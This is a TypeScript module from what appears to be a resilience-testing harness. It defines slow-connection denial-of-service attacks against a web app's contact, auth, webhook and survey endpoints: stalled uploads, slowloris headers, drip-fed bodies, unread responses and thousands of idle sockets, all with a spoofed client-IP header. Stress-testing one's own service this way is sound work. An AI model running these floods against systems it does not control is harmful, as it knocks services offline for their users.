import { setTimeout as wait } from "node:timers/promises";
import type { Attack, Attacker } from "../attack.ts";
import { fillLargest } from "./stored.ts";

const THREE_MEGABYTES = Buffer.alloc(3_000_000, "a=%41&");

/** Attacks that misuse connections in ways that no browser does. */
export const socketAttacks: readonly Attack[] = [
  {
    name: "stalled-uploads",
    row: 7,
    about: "120 posts to /contact that stop after 3 MB",
    lanes: 120,
    begin: async (attacker) => () => stall(attacker, "/contact"),
  },
  {
    name: "stalled-elsewhere",
    row: null,
    about: "120 posts to /auth/v1, /csp-reports, /webhooks/stripe and the survey that stop after 3 MB",
    lanes: 120,
    begin: async (attacker) => {
      const paths = [
        "/auth/v1/token?grant_type=password",
        "/csp-reports",
        "/webhooks/stripe",
        "/survey/creator?step=1",
      ];
      return (lane) => stall(attacker, paths[lane % paths.length] ?? "/contact");
    },
  },
  {
    name: "slow-heads",
    row: null,
    about: "500 connections whose heads come a line a second",
    lanes: 500,
    begin: async (attacker) => () =>
      attacker.connect(async (socket) => {
        socket.write(`GET /contact HTTP/1.1\r\nHost: ${new URL(attacker.origin).host}\r\n`);
        await drip(attacker, socket, "X-Slow: y\r\n");
      }),
  },
  {
    name: "slow-bodies",
    row: null,
    about: "500 posts whose bodies come a letter a second",
    lanes: 500,
    begin: async (attacker) => (lane) =>
      attacker.connect(async (socket) => {
        socket.write(postHead(attacker, lane % 2 === 0 ? "/contact" : "/survey/creator?step=1", 50_000));
        await drip(attacker, socket, "a");
      }),
  },
  {
    name: "slow-readers",
    row: null,
    about: "100 connections that ask for 50 pages each and read none",
    lanes: 100,
    begin: async (attacker) => () => askUnread(attacker, "/portfolio?page=2", 50),
  },
  {
    name: "unread-answers",
    row: null,
    about:
      "fills a survey of its own as far as it goes; two more connections a second ask for its answers 90 times each, and read none",
    lanes: 120,
    begin: async (attacker) => {
      const { cookie } = await fillLargest(attacker);
      return async (lane, turn) => {
        if (turn === 0) await wait(lane * 500);
        await askUnread(attacker, "/survey/creator/answers", 90, `Cookie: ${cookie}\r\n`);
      };
    },
  },
  {
    name: "dripping-readers",
    row: null,
    about: "200 connections that ask for a page that is rendered, one after the other, and read none",
    lanes: 200,
    begin: async (attacker) => () =>
      attacker.connect(async (socket) => {
        socket.pause();
        while (socket.isOpen() && !attacker.isOver()) {
          socket.write(get(attacker, "/portfolio?page=2"));
          await wait(1_000);
        }
      }),
  },
  {
    name: "idle-connections",
    row: null,
    about: "2,000 connections on which nothing is said",
    lanes: 2_000,
    begin: async (attacker) => () => attacker.connect(() => undefined),
  },
];

function askUnread(attacker: Attacker, path: string, times: number, more = ""): Promise<void> {
  return attacker.connect((socket) => {
    socket.pause();
    socket.write(get(attacker, path, more).repeat(times));
  });
}

function get({ origin }: Pick<Attacker, "origin">, path: string, more = ""): string {
  return `GET ${path} HTTP/1.1\r\nHost: ${new URL(origin).host}\r\nFly-Client-IP: 203.0.113.66\r\n${more}\r\n`;
}

function stall(attacker: Attacker, path: string): Promise<void> {
  return attacker.connect((socket) => {
    socket.write(postHead(attacker, path, THREE_MEGABYTES.length + 20_000));
    socket.write(THREE_MEGABYTES);
  });
}

function postHead({ origin }: Pick<Attacker, "origin">, path: string, length: number): string {
  return `POST ${path} HTTP/1.1\r\nHost: ${new URL(origin).host}\r\nOrigin: ${origin}\r\nFly-Client-IP: 203.0.113.66\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: ${length}\r\n\r\n`;
}

async function drip(
  { isOver }: Pick<Attacker, "isOver">,
  socket: Parameters<Parameters<Attacker["connect"]>[0]>[0],
  piece: string,
): Promise<void> {
  while (socket.isOpen() && !isOver()) {
    await wait(1_000);
    socket.write(piece);
  }
}
